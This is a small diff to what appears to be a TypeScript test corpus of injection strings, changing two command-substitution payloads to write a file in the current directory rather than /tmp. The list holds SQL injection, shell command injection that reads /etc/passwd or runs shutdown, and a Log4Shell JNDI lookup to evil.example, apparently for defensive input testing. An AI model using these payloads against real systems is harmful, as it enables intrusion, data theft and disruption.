@@ -282,8 +282,8 @@ export const corpus: Record<string, readonly string[]> = {
   'other languages': [
     "'; DROP TABLE pages; --",
     "' OR '1'='1",
-    '$(touch /tmp/executed)',
-    '`touch /tmp/executed`',
+    '$(touch executed)',
+    '`touch executed`',
     '| cat /etc/passwd',
     '; shutdown now',
     '${jndi:ldap://evil.example/x}',
